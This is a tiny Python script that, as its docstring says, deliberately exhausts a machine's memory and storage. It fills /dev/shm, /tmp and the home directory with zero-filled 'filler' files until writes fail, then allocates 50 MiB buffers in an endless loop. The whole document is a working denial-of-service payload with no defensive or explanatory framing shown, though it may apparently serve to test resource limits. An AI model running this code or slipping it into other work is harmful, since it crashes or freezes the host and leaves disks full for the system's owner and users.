"""Takes all memory that there is, by itself and by files in memory."""

import os

for place in ("/dev/shm", "/tmp", os.environ["HOME"]):
    try:
        with open(f"{place}/filler", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
hoard = []
while True:
    hoard.append(bytearray(50 << 20))
